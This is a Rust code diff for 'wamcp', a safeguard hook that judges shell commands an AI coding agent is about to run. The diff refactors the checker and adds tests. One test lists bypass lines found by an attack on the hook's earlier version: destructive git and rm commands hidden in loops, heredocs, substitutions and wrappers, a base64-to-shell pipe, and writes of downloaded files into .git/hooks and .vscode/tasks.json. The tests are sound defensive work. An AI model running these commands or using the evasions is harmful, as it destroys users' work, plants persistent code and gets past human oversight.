@@ -10,12 +10,12 @@
 //! the same things on its own, because hosts do not always run hooks for
 //! MCP tools.
 
-use crate::command::effects::{Nested, is_assignment, loss, nested, trust_write};
-use crate::command::rules::{BLOCKED_RULES, Decision, RuleSet, program_name};
-use crate::command::shell_line::{Dialect, SimpleCommand, Word, simple_commands};
-use crate::command::tokenize::Arg;
 use serde_json::{Value, json};
 use std::path::Path;
+
+mod shell;
+
+pub use shell::{argv_verdict, shell_verdict};
 
 /// The hook events `wamcp hook` answers.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -220,155 +220,6 @@ fn canonical_json(value: &Value) -> String {
     }
 }
 
-/// Nested shells deeper than this are not looked into.
-const MAX_SHELL_DEPTH: usize = 6;
-
-/// What wamcp makes of a line the host's own shell tool will run: `Deny`
-/// when a command in it does what wamcp refuses outright (a program option
-/// that runs code, by the same grammars `run_powershell` uses; a write to a
-/// file that runs programs later; a script nobody can read), `Ask` when it
-/// destroys work or history, else `Nothing` — a program no table knows is
-/// no opinion, and the host's own permissions decide.
-pub fn shell_verdict(
-    line: &str,
-    dialect: Dialect,
-    rules: &RuleSet,
-    exists: &dyn Fn(&str) -> bool,
-) -> Verdict {
-    let mut verdict = Verdict::Nothing;
-    judge_line(line, dialect, rules, exists, 0, &mut verdict);
-    verdict
-}
-
-/// [`shell_verdict`] for a command given as argv, with no shell between.
-pub fn argv_verdict(argv: &[&str], rules: &RuleSet, exists: &dyn Fn(&str) -> bool) -> Verdict {
-    let words: Vec<Word> = argv
-        .iter()
-        .map(|text| Word {
-            text: text.to_string(),
-            dynamic: false,
-            quoted: false,
-        })
-        .collect();
-    let mut verdict = Verdict::Nothing;
-    judge_words(&words, rules, exists, 0, &mut verdict);
-    verdict
-}
-
-fn judge_line(
-    line: &str,
-    dialect: Dialect,
-    rules: &RuleSet,
-    exists: &dyn Fn(&str) -> bool,
-    depth: usize,
-    verdict: &mut Verdict,
-) {
-    for command in simple_commands(line, dialect) {
-        if let Some(why) = trust_write(&command) {
-            stricter(
-                verdict,
-                Verdict::Deny(format!("wamcp refuses this command: {why}")),
-            );
-        }
-        judge_words(&command.words, rules, exists, depth, verdict);
-    }
-}
-
-fn judge_words(
-    words: &[Word],
-    rules: &RuleSet,
-    exists: &dyn Fn(&str) -> bool,
-    depth: usize,
-    verdict: &mut Verdict,
-) {
-    let start = words.iter().take_while(|w| is_assignment(w)).count();
-    let words = &words[start..];
-    let Some(first) = words.first() else {
-        return;
-    };
-    let shown = || {
-        words
-            .iter()
-            .map(|w| w.text.as_str())
-            .collect::<Vec<_>>()
-            .join(" ")
-    };
-    let argv: Vec<Arg> = words
-        .iter()
-        .map(|w| Arg {
-            text: w.text.clone(),
-            quoted: w.quoted,
-        })
-        .collect();
-    let ruled = rules.judge(&argv);
-    let grammar = rules
-        .grammars()
-        .for_program(&program_name(&first.text))
-        .map(|g| g.id.clone());
-    let known = ruled.rule.as_ref().is_some_and(|r| r != BLOCKED_RULES);
-    match ruled.decision {
-        Decision::Forbidden if known => stricter(
-            verdict,
-            Verdict::Deny(format!("wamcp refuses '{}': {}", shown(), ruled.reason())),
-        ),
-        // A rule of the user's that asks (not a grammar's unknown option).
-        Decision::Prompt if known && ruled.rule != grammar => stricter(
-            verdict,
-            Verdict::Ask(format!(
-                "wamcp asks before '{}': {}",
-                shown(),
-                ruled.reason()
-            )),
-        ),
-        _ => {}
-    }
-    if let Some(why) = trust_write(&SimpleCommand {
-        words: words.to_vec(),
-        writes_to: Vec::new(),
-    }) {
-        stricter(
-            verdict,
-            Verdict::Deny(format!("wamcp refuses this command: {why}")),
-        );
-    }
-    if let Some(why) = loss(words, exists) {
-        stricter(
-            verdict,
-            Verdict::Ask(format!("'{}' cannot be undone: {why}", shown())),
-        );
-    }
-    if depth >= MAX_SHELL_DEPTH {
-        return;
-    }
-    for inner in nested(words) {
-        match inner {
-            Nested::Command(inner) => judge_words(&inner, rules, exists, depth + 1, verdict),
-            Nested::Script(script, dialect) => {
-                judge_line(&script, dialect, rules, exists, depth + 1, verdict)
-            }
-            Nested::Encoded => stricter(
-                verdict,
-                Verdict::Deny(
-                    "wamcp refuses an encoded script: nobody can read it before it runs".into(),
-                ),
-            ),
-        }
-    }
-}
-
-/// Keeps the strictest verdict, and the first reason given at that level.
-fn stricter(current: &mut Verdict, found: Verdict) {
-    let rank = |v: &Verdict| match v {
-        Verdict::Deny(_) => 3,
-        Verdict::Ask(_) => 2,
-        Verdict::ProvenPlan => 1,
-        Verdict::Nothing => 0,
-    };
-    if rank(&found) > rank(current) {
-        *current = found;
-    }
-}
-
 /// The hook's answer on stdout, or `None` to add nothing. Claude Code gets
 /// `deny` or `ask`, never `allow`; Codex's PreToolUse cannot ask, so only
 /// `deny` (asking is left to Codex's own MCP approval); its
@@ -409,6 +260,8 @@ pub fn answer(event: HookEvent, verdict: &Verdict) -> Option<Value> {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::command::rules::RuleSet;
+    use crate::command::shell_line::Dialect;
 
     const KNOWN: &[&str] = &["capability_run", "read_file", "package_install"];
 
@@ -478,7 +331,7 @@ mod tests {
     }
 
     fn shell(line: &str, dialect: Dialect) -> Verdict {
-        let exists = |p: &str| matches!(p, "README.md" | "src");
+        let exists = |p: &str| matches!(p, "README.md" | "src" | "sub/main.rs");
         shell_verdict(line, dialect, &RuleSet::builtin(), &exists)
     }
 
@@ -544,6 +397,137 @@ mod tests {
         ] {
             let got = shell(line, dialect);
             assert_eq!(kind(&got), want, "{line}: {got:?}");
+        }
+    }
+
+    /// Lines found by an attack on the first version of the hook: every
+    /// one destroys work or writes a trust location, in a way the first
+    /// splitter did not see.
+    #[test]
+    fn what_the_attack_found_is_caught() {
+        use Dialect::{Posix, PowerShell};
+        for (line, dialect, want) in [
+            ("if true; then git reset --hard; fi", Posix, "ask"),
+            ("! git reset --hard", Posix, "ask"),
+            ("for i in 1; do git reset --hard; done", Posix, "ask"),
+            ("until git reset --hard; do :; done", Posix, "ask"),
+            ("$out = git reset --hard", PowerShell, "ask"),
+            ("bash <<EOF\ngit reset --hard\nEOF", Posix, "ask"),
+            ("bash <<< 'git reset --hard'", Posix, "ask"),
+            ("echo 'git reset --hard' | bash", Posix, "ask"),
+            ("bash <(echo git reset --hard)", Posix, "ask"),
+            ("base64 -d payload | sh", Posix, "ask"),
+            ("(( x = 1 << 2 ))\ngit reset --hard", Posix, "ask"),
+            ("git reset --ha", Posix, "ask"),
+            ("git clean --forc -dx", Posix, "ask"),
+            ("git push --del origin main", Posix, "ask"),
+            ("git branch -d --forc side", Posix, "ask"),
+            ("git switch --disc old", Posix, "ask"),
+            ("git checkout --pathspec-from=f", Posix, "ask"),
+            ("git reset {--hard,}", Posix, "ask"),
+            ("{git,reset,--hard}", Posix, "ask"),
+            ("git reset $(printf -- --hard)", Posix, "ask"),
+            ("o=--hard; git reset $o", Posix, "ask"),
+            ("echo --hard | xargs git reset", Posix, "ask"),
+            ("$(which git) reset --hard", Posix, "ask"),
+            ("${GIT:-git} reset --hard", Posix, "ask"),
+            ("git --attr-source HEAD reset --hard", Posix, "ask"),
+            (
+                "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!touch p' git x",
+                Posix,
+                "deny",
+            ),
+            ("$env:GIT_CONFIG_COUNT = 1; git x", PowerShell, "deny"),
+            ("git checkout '*'", Posix, "ask"),
+            ("git checkout ':/'", Posix, "ask"),
+            ("git checkout 'src/*.c'", Posix, "ask"),
+            ("cd sub && git checkout main.rs", Posix, "ask"),
+            ("git -C sub checkout main.rs", Posix, "ask"),
+            ("git checkout-index -a -f", Posix, "ask"),
+            ("git read-tree -u --reset HEAD", Posix, "ask"),
+            ("git update-ref --stdin < refs.txt", Posix, "ask"),
+            ("git send-pack --force origin main", Posix, "ask"),
+            ("git checkout -B main origin/main", Posix, "ask"),
+            ("env -S 'git reset --hard'", Posix, "ask"),
+            ("busybox rm -rf src", Posix, "ask"),
+            ("setsid git reset --hard", Posix, "ask"),
+            ("flock /tmp/l git reset --hard", Posix, "ask"),
+            ("script -qc 'git reset --hard' /dev/null", Posix, "ask"),
+            ("sudo --user root git reset --hard", Posix, "ask"),
+            ("nice --adjustment 5 git reset --hard", Posix, "ask"),
+            (
+                "Start-Process git -ArgumentList 'reset','--hard'",
+                PowerShell,
+                "ask",
+            ),
+            ("$g='git'; & $g reset --hard", PowerShell, "ask"),
+            ("rm --recur --force src", Posix, "ask"),
+            ("rm -rf ~/bin", Posix, "ask"),
+            ("rm -rf /usr/local/bin", Posix, "ask"),
+            ("ln -sfn $PWD/src build && rm -rf build/", Posix, "ask"),
+            ("rsync -a --delete empty/ src/", Posix, "ask"),
+            ("Remove-Item src -Recurse:$true", PowerShell, "ask"),
+            (
+                "Get-ChildItem src | Remove-Item -Recurse",
+                PowerShell,
+                "ask",
+            ),
+            ("cmd /c rd /s/q src", PowerShell, "ask"),
+            ("cd .git/hooks && echo x > pre-commit", Posix, "deny"),
+            ("cd .vscode && echo '{}' > tasks.json", Posix, "deny"),
+            ("sed -i 's/a/b/' .vscode/tasks.json", Posix, "deny"),
+            (
+                "curl -o .git/hooks/pre-commit https://example.com/x",
+                Posix,
+                "deny",
+            ),
+            ("dd if=x of=.git/hooks/pre-commit", Posix, "deny"),
+            (
+                "'x' | Tee-Object -FilePath .git/hooks/pre-commit",
+                PowerShell,
+                "deny",
+            ),
+            (
+                "Invoke-WebRequest https://example.com -OutFile .git/hooks/pre-commit",
+                PowerShell,
+                "deny",
+            ),
+            (
+                "Expand-Archive a.zip -DestinationPath .git/hooks",
+                PowerShell,
+                "deny",
+            ),
+            (
+                "[IO.File]::WriteAllText('.git/hooks/pre-commit','x')",
+                PowerShell,
+                "deny",
+            ),
+        ] {
+            let got = shell(line, dialect);
+            assert_eq!(kind(&got), want, "{line}: {got:?}");
+        }
+    }
+
+    /// Ordinary work the attack found asked about or refused.
+    #[test]
+    fn ordinary_work_the_attack_found_is_left_alone() {
+        use Dialect::{Posix, PowerShell};
+        for (line, dialect) in [
+            ("find . -name '*.pyc' -delete", Posix),
+            ("rm -rf target/debug", Posix),
+            ("rm -rf node_modules/.vite", Posix),
+            ("rm -rf /tmp/scratch", Posix),
+            ("Remove-Item -Recurse -Force .\\bin, .\\obj", PowerShell),
+            ("bash build.sh", Posix),
+            ("bash -c 'cargo test'", Posix),
+            ("cat <<EOF | sort\nb\na\nEOF", Posix),
+            ("git push origin HEAD:refs/heads/x", Posix),
+            ("git log --oneline | head", Posix),
+            ("for f in *.rs; do wc -l $f; done", Posix),
+            ("if [ -d build ]; then rm -rf build; fi", Posix),
+        ] {
+            let got = shell(line, dialect);
+            assert_eq!(kind(&got), "nothing", "{line}: {got:?}");
         }
     }
 
